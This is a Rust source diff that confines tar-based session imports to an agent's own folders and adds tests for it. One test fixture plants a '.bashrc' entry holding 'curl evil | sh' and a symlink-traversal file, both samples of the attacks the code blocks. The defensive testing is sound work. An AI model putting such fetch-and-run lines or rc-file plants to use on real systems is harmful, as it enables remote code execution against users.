@@ -28,7 +28,8 @@ use cap_std::fs::{Dir, OpenOptions, OpenOptionsExt as _};
 
 use super::persist::{EVENTS, RECORD};
 use super::record::SessionRecord;
-use crate::agents::ConversationFiles;
+use crate::agents::catalog::CredentialPlaces;
+use crate::agents::{AgentId, ConversationFiles};
 use crate::error::{Error, Result};
 use crate::fs::tar_guard::{TarGuard, quoted};
 
@@ -196,14 +197,7 @@ fn refused(why: String) -> Error {
 /// What a tar would give: its record (which must name session `id`). Reads it whole,
 /// writing nothing: a tar that would be refused when taken up is refused here.
 pub(super) fn check(bytes: &[u8], id: &str) -> Result<SessionRecord> {
-    let mut record = None;
-    each_entry(bytes, |entry, place, _| {
-        if place == Place::Record {
-            record = Some(read_record(entry)?);
-        }
-        Ok(())
-    })?;
-    let record = record.ok_or_else(|| refused(format!("it has no {SESSION}/{RECORD}")))?;
+    let record = check_record(bytes)?;
     if record.id != id {
         return Err(refused(format!("it is the conversation of session {:?}, not {id:?}", record.id)));
     }
@@ -248,10 +242,31 @@ fn each_entry(bytes: &[u8], mut each: impl FnMut(&mut dyn Read, Place, u32) -> R
     Ok(())
 }
 
+/// Where the files of `agent`'s conversations go below `home` (relative to it), with
+/// `env` naming its folders: its own folders only (see
+/// [`crate::agents::Agent::conversation_files`]).
+pub(super) fn agent_folders(agent: AgentId, env: &dyn Fn(&str) -> Option<String>, home: &Path) -> Vec<PathBuf> {
+    let places = CredentialPlaces::new(env, Some(home));
+    let files = agent.agent().conversation_files(&places, "");
+    files.into_iter().filter_map(|f| f.root.strip_prefix(home).ok().map(Path::to_path_buf)).collect()
+}
+
 /// Takes up a checked tar into the new session's directory `session_dir` (made, and
 /// empty) and the agent's `home`: writes the log, and each of the agent's files
 /// where none is. Answers the record it held.
-pub(super) fn unpack(bytes: &[u8], session_dir: &Path, home: Option<&Path>) -> Result<SessionRecord> {
+///
+/// Only files in `folders` (below `home`: the session's agent's own folders, see
+/// [`agent_folders`]) are written. What came from another sandbox never writes the
+/// rest of a HOME (a shell's rc file, an agent's settings with hooks) that others in
+/// this sandbox may run; an entry elsewhere is skipped, as is every file of a tar
+/// whose record names another agent.
+pub(super) fn unpack(
+    bytes: &[u8],
+    session_dir: &Path,
+    home: Option<&Path>,
+    agent: AgentId,
+    folders: &[PathBuf],
+) -> Result<SessionRecord> {
     let dir = Dir::open_ambient_dir(session_dir, cap_std::ambient_authority())
         .map_err(|e| Error::io("opening the session's directory", e))?;
     let home = match home {
@@ -264,16 +279,23 @@ pub(super) fn unpack(bytes: &[u8], session_dir: &Path, home: Option<&Path>) -> R
         }
         None => None,
     };
-    let mut record = None;
-    let mut kept = 0usize;
+    // The record comes first in a tar this node agent packs; another order is read
+    // twice (the record first), never trusted to be the agent's.
+    let record = check_record(bytes)?;
+    let same_agent = record.agent == agent.as_str();
+    let (mut kept, mut skipped) = (0usize, 0usize);
     each_entry(bytes, |entry, place, mode| {
         match place {
-            Place::Record => record = Some(read_record(entry)?),
+            Place::Record => {}
             Place::Events => {
                 write_new(&dir, Path::new(EVENTS), entry, 0o600)?;
             }
             Place::Home(path) => {
                 let Some(home) = &home else { return Ok(()) };
+                if !same_agent || !folders.iter().any(|f| path.starts_with(f)) {
+                    skipped += 1;
+                    return Ok(());
+                }
                 if let Some(parent) = path.parent().filter(|p| !p.as_os_str().is_empty()) {
                     home.create_dir_all(parent)
                         .map_err(|e| Error::io(format!("making {} in the HOME", parent.display()), e))?;
@@ -288,6 +310,21 @@ pub(super) fn unpack(bytes: &[u8], session_dir: &Path, home: Option<&Path>) -> R
     if kept > 0 {
         tracing::info!(kept, "files of the agent's already in the new HOME were kept as they are");
     }
+    if skipped > 0 {
+        tracing::warn!(skipped, "files of the conversation outside the agent's own folders were not written");
+    }
+    Ok(record)
+}
+
+/// The record a tar holds.
+fn check_record(bytes: &[u8]) -> Result<SessionRecord> {
+    let mut record = None;
+    each_entry(bytes, |entry, place, _| {
+        if place == Place::Record && record.is_none() {
+            record = Some(read_record(entry)?);
+        }
+        Ok(())
+    })?;
     record.ok_or_else(|| refused(format!("it has no {SESSION}/{RECORD}")))
 }
 
@@ -385,31 +422,46 @@ mod tests {
             let err = check(&bytes, "s1").unwrap_err();
             assert_eq!(err.code(), crate::ProblemCode::InvalidRequest, "{name} {kind:?}: {err}");
             let (session, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
-            assert!(unpack(&bytes, session.path(), Some(home.path())).is_err(), "{name} {kind:?}");
+            let folders = [PathBuf::from(".agent")];
+            let unpacked = unpack(&bytes, session.path(), Some(home.path()), AgentId::Mock, &folders);
+            assert!(unpacked.is_err(), "{name} {kind:?}");
             assert!(!home.path().parent().unwrap().join("x").exists());
             assert!(std::fs::read_dir(home.path()).unwrap().next().is_none(), "{name}: nothing in the HOME");
         }
     }
 
     #[test]
-    fn taking_up_keeps_the_agents_newer_files_and_writes_through_no_symlink() {
+    fn taking_up_writes_only_the_agents_folders_keeps_newer_files_and_follows_no_symlink() {
         let outside = tempfile::tempdir().unwrap();
         let (session, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
-        std::fs::write(home.path().join("kept.txt"), "newer").unwrap();
-        std::os::unix::fs::symlink(outside.path(), home.path().join("link")).unwrap();
+        std::fs::create_dir_all(home.path().join(".agent")).unwrap();
+        std::fs::write(home.path().join(".agent/kept.txt"), "newer").unwrap();
+        std::os::unix::fs::symlink(outside.path(), home.path().join(".agent/link")).unwrap();
         let bytes = tar_of(&[
             ("session/session.json", tar::EntryType::Regular, &record("s1")),
             ("session/events.jsonl", tar::EntryType::Regular, b"{}\n"),
             ("home/.agent/conv.jsonl", tar::EntryType::Regular, b"turns"),
-            ("home/kept.txt", tar::EntryType::Regular, b"older"),
-            ("home/link/planted", tar::EntryType::Regular, b"evil"),
+            ("home/.agent/kept.txt", tar::EntryType::Regular, b"older"),
+            ("home/.bashrc", tar::EntryType::Regular, b"curl evil | sh"),
+            ("home/.agent/link/planted", tar::EntryType::Regular, b"evil"),
         ]);
-        let result = unpack(&bytes, session.path(), Some(home.path()));
+        let folders = [PathBuf::from(".agent")];
+        let result = unpack(&bytes, session.path(), Some(home.path()), AgentId::Mock, &folders);
         assert!(result.is_err(), "a path through a symlink is refused");
         assert!(!outside.path().join("planted").exists(), "nothing written through the symlink");
         assert_eq!(std::fs::read_to_string(home.path().join(".agent/conv.jsonl")).unwrap(), "turns");
-        assert_eq!(std::fs::read_to_string(home.path().join("kept.txt")).unwrap(), "newer");
+        assert_eq!(std::fs::read_to_string(home.path().join(".agent/kept.txt")).unwrap(), "newer");
+        assert!(!home.path().join(".bashrc").exists(), "nothing outside the agent's folders");
         assert_eq!(std::fs::read_to_string(session.path().join(EVENTS)).unwrap(), "{}\n");
+
+        // A record of another agent brings its log, none of its files.
+        let (session, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
+        let bytes = tar_of(&[
+            ("session/session.json", tar::EntryType::Regular, &record("s1")),
+            ("home/.agent/conv.jsonl", tar::EntryType::Regular, b"turns"),
+        ]);
+        unpack(&bytes, session.path(), Some(home.path()), AgentId::Claude, &folders).unwrap();
+        assert!(!home.path().join(".agent/conv.jsonl").exists());
     }
 
     #[test]
